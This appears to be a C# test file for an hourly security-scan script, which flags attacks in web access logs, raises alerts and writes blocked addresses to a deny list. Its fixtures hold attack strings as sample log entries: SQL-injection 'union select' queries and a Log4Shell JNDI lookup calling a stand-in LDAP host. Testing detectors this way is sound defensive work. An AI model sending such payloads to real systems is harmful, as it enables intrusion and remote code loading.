using System.Diagnostics;
using System.Globalization;
using System.Text.Json;
using OpsModule.Cmdlets.Tests.Running;
using OpsModule.Engine.Tests.Fixtures;

namespace OpsModule.Cmdlets.Tests.Examples;

/// <summary>examples/hourly-security-scan on files and on services: through ops, and through pwsh where that is installed.</summary>
[Collection(DockerCollection.Name)]
public sealed class SecurityScanTests : IAsyncDisposable
{
    private readonly TempFolder _folder = new();
    private readonly WebServer _web = new();
    private readonly string _project = "s" + Guid.NewGuid().ToString("N")[..10];

    public async ValueTask DisposeAsync()
    {
        await _web.DisposeAsync();
        _folder.Dispose();
    }

    [Fact]
    public async Task Files_are_told_of_once_and_their_attackers_blocked_for_a_day()
    {
        Environment();
        Append("access.log", Enumerable.Range(0, 25).Select(i => Request("203.0.113.7", $"/item?id=1%27+union+select+{i},2")));
        Append("access.log", Enumerable.Range(0, 25).Select(i => Request("198.51.100.9", $"/item?id=1%27+union+select+{i},2"))); // attacks.allow names it
        Append("access.log", [Request("203.0.113.8", "/")]);

        (int code, string said) = await RunAsync("access.log*");
        Assert.True(code == 1, said);
        JsonElement told = Told().Single();
        Assert.Equal("critical", told.GetProperty("severity").GetString());
        Assert.Contains("25 attack matches", told.GetProperty("title").GetString());
        Assert.Contains("203.0.113.7", File.ReadAllText(_folder["attacks.html"]));
        Assert.Equal(["203.0.113.7"], Denied());

        // Rotated, and quiet since: nothing is told again but that it is over; the addresses of the day stay blocked.
        File.Move(_folder["access.log"], _folder["access.log.1"]);
        Append("access.log", [Request("203.0.113.8", "/a")]);
        (code, said) = await RunAsync("access.log*");
        Assert.True(code == 0, said);
        Assert.Equal(["firing", "resolved"], Told().Select(t => t.GetProperty("state").GetString()!));
        Assert.Equal(["203.0.113.7"], Denied());

        Append("access.log", [Request("203.0.113.9", "/?x=$%7Bjndi:ldap://x.example/a%7D")]);
        (code, said) = await RunAsync("access.log*");
        Assert.True(code == 1, said);
        Assert.Contains("1 attack match", Told().Last().GetProperty("title").GetString());
    }

    [Fact]
    public async Task Services_are_looked_into_where_no_file_is_named()
    {
        Environment($"platform: {{ compose: {{ file: compose.yaml, project: {_project} }} }}\n");
        string lines = string.Join('\n', Enumerable.Range(0, 25).Select(i => Request("203.0.113.7", $"/item?id=1%27+union+select+{i},2")));
        await DockerFixture.RunAsync(_project, "api", $"cat <<'END'\n{lines}\nSECURITY: audit log failure\nEND\ntrap 'exit 0' TERM; sleep 3600 & wait");
        for (int attempt = 0; ; attempt++) // until the engine has what the container wrote
        {
            (int code, string said) = await RunAsync();
            Assert.True(code is 0 or 1, said);
            string all = File.ReadAllText(_folder["attacks.html"]) + string.Concat(Told().Select(t => t.GetRawText()));
            if (Denied() is ["203.0.113.7"] && Told().Any(t => t.GetProperty("state").GetString() == "firing") && all.Contains("SecurityEvent")) break;
            Assert.True(attempt < 50, said + all);
            await Task.Delay(200);
        }
    }

    [Fact]
    public async Task A_scan_that_failed_tells_nobody_that_all_is_well()
    {
        Environment();
        (int code, string said) = await RunAsync("none.log");
        Assert.Equal(2, code);
        Assert.Contains("none.log", said);
        Assert.Empty(_web.Requests);
        Assert.False(File.Exists(_folder["attacks.json"]));
    }

    private void Environment(string platform = "") => File.WriteAllText(_folder["ops.yaml"], $$"""
        environment: shop
        {{platform}}alerts: { receivers: { pager: { webhook: "file:hook.secret" } } }
        attacks: { allow: [ { address: 198.51.100.0/24 } ] }
        """);

    private static string Request(string client, string target) =>
        $"{client} - - [{DateTime.UtcNow.ToString("dd/MMM/yyyy:HH:mm:ss", CultureInfo.InvariantCulture)} +0000] \"GET {target} HTTP/1.1\" 200 5120 \"-\" \"-\"";

    private void Append(string file, IEnumerable<string> lines) => File.AppendAllLines(_folder[file], lines);

    private IEnumerable<JsonElement> Told() => _web.Requests.Select(r => JsonDocument.Parse(r.Split("\r\n\r\n", 2)[1]).RootElement);

    private string[] Denied() => File.Exists(_folder["blocked.conf"]) ? [.. File.ReadLines(_folder["blocked.conf"]).Where(l => l.StartsWith("deny ", StringComparison.Ordinal)).Select(l => l[5..l.IndexOf(';')])] : [];

    /// <summary>Runs the example as a scheduler would.</summary>
    private async Task<(int Code, string Said)> RunAsync(string? files = null)
    {
        File.WriteAllText(_folder["hook.secret"], _web.Url("/ok"));
        string script = Path.Combine(MorningProject.Root, "examples", "hourly-security-scan.ps1");
        string[] arguments = ["-NoProfile", "-File", script, "-Environment", "ops.yaml", "-Baseline", "attacks.json", "-Report", "attacks.html", "-BlockList", "blocked.conf", .. files is null ? Array.Empty<string>() : ["-Path", files]];
        var info = new ProcessStartInfo(PwshProcess.Program, arguments) { WorkingDirectory = _folder.Path, RedirectStandardOutput = true, RedirectStandardError = true };
        info.Environment["PSModulePath"] = Path.Combine(MorningProject.Root, "out");
        using Process run = Process.Start(info)!;
        Task<string> output = run.StandardOutput.ReadToEndAsync(), errors = run.StandardError.ReadToEndAsync();
        await run.WaitForExitAsync();
        return (run.ExitCode, await output + await errors);
    }
}
